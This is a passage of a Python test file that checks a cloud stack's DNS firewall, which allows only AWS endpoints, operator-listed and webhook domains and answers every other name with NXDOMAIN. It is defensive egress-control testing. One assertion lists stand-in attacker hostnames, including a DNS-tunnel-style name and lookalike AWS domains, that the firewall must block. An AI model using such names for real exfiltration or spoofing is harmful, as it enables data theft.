    return any(d == "*" or d == name or (d.startswith("*.") and name.endswith(d[1:])) for d in domains)


def test_the_dns_firewall_resolves_what_the_roles_call_and_the_operators_list_and_nothing_else(
    translated: dict[str, Any], nested: dict[str, dict[str, Any]]
) -> None:
    network = nested["network"]
    resources = network["Resources"]
    firewall = ("AwsDomains", "EveryDomain", "DnsFirewallRules", "DnsFirewallAssociation")
    off = Resolver(network)
    on = Resolver(network, overrides={"DnsFirewall": "on", "DnsFirewallAllowedDomains": ""})
    listed = Resolver(network, overrides={"DnsFirewall": "on", "DnsFirewallAllowedDomains": "hooks.example.com"})
    for name in (*firewall, "OperatorDomains"):
        assert not off.condition(resources[name]["Condition"]), name  # off by default: nothing made
    assert all(on.condition(resources[name]["Condition"]) for name in firewall)
    assert not on.condition(resources["OperatorDomains"]["Condition"])  # an empty list makes none
    assert listed.condition(resources["OperatorDomains"]["Condition"])
    assert listed.value(resources["OperatorDomains"]["Properties"]["Domains"]) == ["hooks.example.com"]

    # the rules, in order: the AWS endpoints, the operator's lists, then every other name answered NXDOMAIN
    hooks = Resolver(network, overrides={"DnsFirewall": "on", "DnsFirewallAllowedDomains": "hooks.example.com",
                                         "WebhookHosts": "a.example,*.b.example"})
    assert not listed.condition(resources["WebhookDomains"]["Condition"])
    assert hooks.value(resources["WebhookDomains"]["Properties"]["Domains"]) == ["a.example", "*.b.example"]
    rules = sorted(hooks.value(resources["DnsFirewallRules"]["Properties"]["FirewallRules"]),
                   key=lambda r: r["Priority"])
    assert [(r["Action"], r["FirewallDomainListId"]) for r in rules] == [
        ("ALLOW", "AwsDomains.Id"), ("ALLOW", "OperatorDomains.Id"), ("ALLOW", "WebhookDomains.Id"),
        ("BLOCK", "EveryDomain.Id")]
    assert rules[-1]["BlockResponse"] == "NXDOMAIN"
    assert on.value(resources["EveryDomain"]["Properties"]["Domains"]) == ["*"]
    assert [r["Action"] for r in on.value(resources["DnsFirewallRules"]["Properties"]["FirewallRules"])] == [
        "ALLOW", "BLOCK"]
    # on the VPC in use, made or existing
    association = resources["DnsFirewallAssociation"]["Properties"]
    assert on.value(association["VpcId"]) == "Vpc"
    assert Resolver(network, overrides={"DnsFirewall": "on", "ExistingVpcId": "vpc-1"}).value(
        association["VpcId"]) == "vpc-1"
    assert 100 < on.value(association["Priority"]) < 9900

    # every service any role is granted, and the cache, resolve; a name of the attacker's does not
    aws = [d.replace("${AWS::Region}", REGION) for d in on.value(resources["AwsDomains"]["Properties"]["Domains"])]
    granted = {action.split(":")[0] for template in (translated, *nested.values())
               for _, statement in role_statements(template) if statement.get("Effect") == "Allow"
               for action in as_list(statement.get("Action", [])) if isinstance(action, str)}
    services = granted | MANAGED_SERVICES
    assert services <= set(ENDPOINTS), f"name the endpoints of {sorted(services - set(ENDPOINTS))}"
    for name in [n for s in services for n in ENDPOINTS[s]] + BEYOND_IAM:
        assert firewall_allows(aws, name), name
    for name in ("x7f3a9.tunnel.attacker.example", "amazonaws.com.attacker.example", "example.com",
                 "huggingface.co", "s3.amazonaws.com.evil.example"):
        assert not firewall_allows(aws, name), name

    # the root stack passes its two settings down; its default list is the registries the instances pull from
    root = translated["Resources"]["Network"]["Properties"]["Parameters"]
    assert root["DnsFirewall"] == {"Ref": "DnsFirewall"}
    assert translated["Parameters"]["DnsFirewall"]["Default"] == "off"
    defaults = translated["Parameters"]["DnsFirewallAllowedDomains"]["Default"].split(",")
    assert all(firewall_allows(defaults, n) for n in ("huggingface.co", "cdn-lfs.huggingface.co",
                                                       "cas-bridge.xethub.hf.co", "registry-1.docker.io",
                                                       "production.cloudflare.docker.com"))
    assert Resolver(translated, overrides={"DnsFirewallAllowedDomains": "a.example,b.example"}).value(
        root["DnsFirewallAllowedDomains"]) == "a.example,b.example"
    # the tenants' webhook hosts: resolvable in the VPC, and the only hosts the gateway and the sender accept
    given = Resolver(translated, overrides={"WebhookHosts": "hooks.example.com,*.tenant.example"})
    assert given.value(root["WebhookHosts"]) == "hooks.example.com,*.tenant.example"
    for logical_id in ("GatewayFunction", "ScalerFunction"):
        value = given.value(environment(translated, logical_id)["INFERQ_WEBHOOK_HOSTS"])
        assert Settings.from_env({"INFERQ_WEBHOOK_HOSTS": value}).webhook_hosts == (
            "hooks.example.com", "*.tenant.example"), logical_id
        assert Resolver(translated).value(environment(translated, logical_id)["INFERQ_WEBHOOK_HOSTS"]) == ""
